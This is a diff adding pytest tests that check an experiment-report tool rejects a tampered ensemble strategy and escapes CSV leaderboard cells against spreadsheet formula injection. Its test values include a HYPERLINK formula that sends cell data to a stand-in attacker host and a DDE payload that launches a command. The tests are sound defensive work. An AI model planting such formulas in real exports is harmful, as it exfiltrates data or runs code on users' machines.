@@ -345,3 +345,55 @@ def test_an_undefined_kappa_is_null_in_json():
     metrics = binary_metrics(np.array([0, 0]), np.array([0.1, 0.2]))
     assert math.isnan(metrics["kappa"])
     assert json.loads(json.dumps(defined_or_none(metrics)))["kappa"] is None
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+def test_a_tampered_strategy_never_reaches_the_leaderboard(experiment: Path, tmp_path: Path, capsys):
+    spec_path = experiment / "ensemble" / "greedy" / "ensemble.json"
+    spec_path.write_text(json.dumps({**json.loads(spec_path.read_text()), "strategy": FORMULA}))
+    capsys.readouterr()
+    with pytest.raises(SystemExit) as exit_info:
+        main(["report", str(experiment), "--out", str(tmp_path / "report"), "--replicates", "10"])
+    err = capsys.readouterr().err.strip()
+    assert exit_info.value.code == 2 and "\n" not in err and "Traceback" not in err
+    assert str(spec_path) in err and "strategy" in err and "unknown strategy" in err
+    assert not (tmp_path / "report").exists()
+
+
+def test_leaderboard_text_cells_cannot_run_as_formulas_and_numbers_stay_numbers(experiment: Path, tmp_path: Path):
+    import csv
+
+    summary_csv = experiment / "search_summary.csv"
+    summary = pd.read_csv(summary_csv)
+    hostile = {
+        "backbone": FORMULA,
+        "augment_policy": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "optimizer": "-2+3",
+        "finetune_depth": "+1+1",
+        "lr": -0.001,
+    }
+    for column, value in hostile.items():
+        summary[column] = summary[column].astype(object)
+        summary.loc[0, column] = value
+    summary.to_csv(summary_csv, index=False)
+    out = write_report(experiment, tmp_path / "report", replicates=10, echo=lambda _: None)
+    with open(out / "leaderboard.csv", newline="", encoding="utf-8") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r") or (c[:1] in ("+", "-") and not _is_number(c))], (
+        cells
+    )
+    for value in (FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+1+1"):
+        assert "'" + value in cells
+    assert "-0.001" in cells  # a negative number is left alone
+    board = pd.read_csv(out / "leaderboard.csv")
+    assert board["kappa_overall"].dtype == float and board.loc[board["name"] == "trial aaa", "lr"].item() == -0.001
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
